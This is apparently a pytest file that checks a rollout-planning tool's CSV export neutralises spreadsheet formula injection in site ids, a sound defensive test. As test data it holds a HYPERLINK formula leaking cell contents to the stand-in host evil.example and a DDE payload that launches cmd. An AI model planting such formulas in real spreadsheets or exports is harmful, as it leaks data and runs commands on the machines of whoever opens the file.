"""Formula injection through the rollout's CSV artefacts: site ids that are spreadsheet formulas.

Real-world shape: a sites list kept in a shared spreadsheet where someone (or something) entered
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` or the DDE payload ``=cmd|' /C calc'!A0`` as a
site id. ``plan.csv`` and ``replan.csv`` once wrote them as they came, so Excel opening the CSV ran
them. Every CSV artefact goes through :func:`pmokit.report.write_csv`, which must neutralise them;
and the next run, reading that ``plan.csv`` back as its baseline, must see the original ids.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pandas as pd

from pmokit import report
from pmokit.rollout import assess as ra
from pmokit.rollout.params import RolloutPlanParams
from pmokit.sources import sites as src

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1-555-0100"  # a phone-like id: starts with '+', which Excel also evaluates
AT = "@SUM(1+1)"
MON = dt.date(2026, 3, 2)  # a Monday


def _sites_file(tmp_path: Path) -> Path:
    """Four sites in one region, one technician-day each (10 devices, 10 per day)."""
    rows = [["Site ID", "Region", "Country", "Devices"]]
    rows += [[site, "R", "DE", "10"] for site in (HYPERLINK, DDE, PLUS, AT)]
    path = tmp_path / "sites.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def _params(sites_path: Path, **extra) -> RolloutPlanParams:
    values = dict(
        sites_path=str(sites_path),
        output_dir=".",
        technicians={"R": 1},
        crew_size=1,
        start_date=MON,
        pilot="none",
        pilot_soak_days=0,
        forecast_runs=20,
    )
    values.update(extra)
    return RolloutPlanParams(**values)


def _cells(path: Path) -> list[list[str]]:
    """Every cell of a written CSV, as Excel would see the text (BOM removed)."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_plan_and_replan_csv_neutralise_formula_site_ids(tmp_path: Path) -> None:
    sites_path = _sites_file(tmp_path)
    sites = src.read_sites(sites_path)
    assert sites["site_id"].tolist() == [HYPERLINK, DDE, PLUS, AT]  # read as the text they are
    # Actuals: the HYPERLINK site started on the first day and is finished (all 10 devices), so
    # tracking and a replan exist and replan.csv is written too.
    actuals = pd.DataFrame(
        {
            "site_id": [HYPERLINK],
            "actual_start": [pd.Timestamp(MON)],
            "actual_end": [pd.Timestamp(MON)],
            "devices_done": pd.array([pd.NA], dtype="Int64"),
        }
    )
    plan_only = ra.assess(sites, None, None, None, _params(sites_path))
    tracked = ra.assess(
        sites,
        None,
        plan_only.plan_csv.assign(
            start_date=pd.to_datetime(plan_only.plan_csv["start_date"]),
            end_date=pd.to_datetime(plan_only.plan_csv["end_date"]),
        ),
        actuals,
        _params(sites_path, status_date=MON),
    )
    assert tracked.replan_csv is not None
    out = tmp_path / "run"
    out.mkdir()
    # plan.csv lists every site; replan.csv the three not finished at the status date.
    expected = {"plan.csv": (HYPERLINK, DDE, PLUS, AT), "replan.csv": (DDE, PLUS, AT)}
    for name, frame in (("plan.csv", plan_only.plan_csv), ("replan.csv", tracked.replan_csv)):
        written = report.write_csv(name, frame, directory=out)
        cells = _cells(written)
        ids = [row[0] for row in cells[1:]]
        # Each formula id is written with a leading apostrophe, the rest of the text unchanged.
        assert sorted(ids) == sorted("'" + site for site in expected[name]), name
        risky = [cell for row in cells for cell in row if cell[:1] in ("=", "+", "-", "@")]
        assert risky == [], f"{name}: live formulas {risky}"


def test_neutralised_plan_csv_reads_back_as_the_original_ids(tmp_path: Path) -> None:
    """The next run reads plan.csv as its baseline: "'=HYPERLINK(...)" must match the site
    "=HYPERLINK(...)" again, or every such site would look unplanned."""
    sites_path = _sites_file(tmp_path)
    sites = src.read_sites(sites_path)
    result = ra.assess(sites, None, None, None, _params(sites_path))
    written = report.write_csv("plan.csv", result.plan_csv, directory=tmp_path)
    baseline = src.read_plan(written)
    assert sorted(baseline["site_id"]) == sorted([HYPERLINK, DDE, PLUS, AT])
    assert set(baseline["site_id"]) == set(sites["site_id"])
